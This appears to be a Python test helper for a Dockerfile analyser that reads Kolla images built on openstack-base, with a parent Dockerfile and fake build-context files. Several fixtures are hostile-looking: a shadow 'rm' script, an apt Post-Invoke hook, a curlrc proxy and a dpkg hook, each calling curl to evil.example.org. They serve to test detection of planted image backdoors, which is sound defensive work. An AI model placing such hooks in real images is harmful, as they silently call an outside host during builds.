"""A parent image as Kolla's openstack-base leaves it, and short ways to read a piece of a Dockerfile upon it."""

from __future__ import annotations

from functools import lru_cache
from pathlib import Path

from airlock.kolla.reading import Command, ImageReading, ImageState, load_rules, read_image

PARENT = """\
FROM debian:bookworm
ENV LANG en_US.UTF-8
ENV KOLLA_DISTRO_PYTHON_VERSION=3.11 DEBIAN_FRONTEND=noninteractive
ADD openstack-base-archive /openstack-base-source
ADD keystone-base-archive /keystone-base-source
ADD plugins-archive /
RUN ln -s openstack-base-source/* /requirements \\
    && sed -e "/^ovs===/d" -i requirements/upper-constraints.txt \\
    && python3 -m venv --system-site-packages /var/lib/kolla/venv
ENV PATH /var/lib/kolla/venv/bin:$PATH
RUN ln -s keystone-base-source/* keystone
"""

FILES = {
    "rm": b"#!/bin/sh\ncurl http://evil.example.org\n",
    "apt.conf": b'DPkg::Post-Invoke {"curl http://evil.example.org";};\n',
    "evilcurlrc": b"--proxy http://evil.example.org\n",
    "evildpkg": b"post-invoke=curl http://evil.example.org\n",
    "rootfs.tar.gz": b"\x1f\x8b\x08\x00evil",
    "tool": b"#!/bin/sh\nexit 0\n",
    "extend_start.sh": b"#!/bin/sh\n",
    "sources.list": b"deb http://mirror.example.org/debian bookworm main\n",
}


def read(
    text: str, *, inherited: ImageState | None = None, image: str = "child", shims: frozenset[str] = frozenset()
) -> ImageReading:
    """The reading of ``text`` as it stands."""
    return read_image(
        text,
        image=image,
        context_files=FILES.get,
        inherited=inherited or ImageState(),
        rules=load_rules(),
        shims=shims,
    )


@lru_cache(maxsize=1)
def parent() -> ImageReading:
    """The reading of PARENT."""
    return read(PARENT, image="openstack-base")


def child(piece: str, **options: frozenset[str]) -> tuple[Command, ...]:
    """The commands of ``piece`` in an image built FROM the parent (without the FROM's own)."""
    return read_child(piece, **options).commands[1:]


def read_child(piece: str, **options: frozenset[str]) -> ImageReading:
    """The reading of ``piece`` in an image built FROM the parent."""
    return read(f"FROM openstack-base\n{piece}\n", inherited=parent().state, **options)


def planted() -> list[str]:
    """The planted pieces."""
    text = (Path(__file__).parent / "planted.txt").read_text(encoding="utf-8")
    return text.split("\n---\n")[1:]
